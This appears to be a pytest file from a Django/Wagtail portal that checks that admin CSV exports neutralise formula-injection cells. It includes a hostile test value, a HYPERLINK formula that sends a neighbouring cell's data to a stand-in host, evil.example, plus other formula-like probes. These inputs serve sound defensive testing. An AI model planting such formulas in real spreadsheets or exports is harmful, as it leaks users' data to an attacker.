"""Every admin export makes formula-like cells inert (CSV formula injection)."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets as admin_viewsets
from wagtail.admin.viewsets.model import ModelViewSet

from feedback.models import PageFeedback
from portal.exports import SafeSpreadsheetExportMixin, neutralise_cell
from tests.factories import GuidancePageFactory
from tests.training.helpers import add_event, booking_details
from training import services

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?x="&B2,"Click")'


@pytest.mark.parametrize(
    "value, expected",
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ann Able", "Ann Able"),
        ("a=1", "a=1"),
        ("", ""),
        (3, 3),
        (None, None),
    ],
)
def test_cells_that_start_like_formulas_are_made_text(value, expected):
    assert neutralise_cell(value) == expected


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(content)))


def test_bookings_csv_neutralises_a_hostile_name(admin_client):
    event = add_event(title="-Safer recruitment")
    services.book_place(event=event, **booking_details(1, name=HOSTILE, organisation="@Police"))
    url = reverse("training_booking:index")
    rows = csv_rows(admin_client.get(url, {"event": event.pk, "export": "csv"}))
    assert rows[0]["Name"] == "'" + HOSTILE
    assert rows[0]["Organisation"] == "'@Police"
    assert rows[0]["Event"] == "'-Safer recruitment"


def test_feedback_csv_neutralises_page_titles(admin_client):
    page = GuidancePageFactory(title="=1+1")
    PageFeedback.objects.create(page=page, day=timezone.localdate(), yes_count=2)
    rows = csv_rows(admin_client.get(reverse("page_feedback_report"), {"export": "csv"}))
    assert "'=1+1" in [row["Page"] for row in rows]


def test_guidance_review_csv_neutralises_page_titles(admin_client):
    GuidancePageFactory(title="+SUM(1,2)")
    rows = csv_rows(admin_client.get(reverse("guidance_review"), {"export": "csv"}))
    assert "'+SUM(1,2)" in [row["Title"] for row in rows]


def _all_subclasses(cls):
    for subclass in cls.__subclasses__():
        yield subclass
        yield from _all_subclasses(subclass)


def test_no_export_in_the_project_skips_the_shared_neutraliser(admin_client):
    admin_client.get(reverse("wagtailadmin_home"))  # every admin URL and viewset is loaded
    ours = [
        view
        for view in _all_subclasses(SpreadsheetExportMixin)
        if not view.__module__.startswith(("wagtail.", "portal.exports"))
    ]
    assert ours, "the project's export views were not found"
    unsafe = [view for view in ours if not issubclass(view, SafeSpreadsheetExportMixin)]
    assert unsafe == []
    for viewset in admin_viewsets.viewsets:
        exports = getattr(viewset, "list_export", None)
        if isinstance(viewset, ModelViewSet) and isinstance(exports, list | tuple) and exports:
            assert issubclass(viewset.index_view_class, SafeSpreadsheetExportMixin), viewset
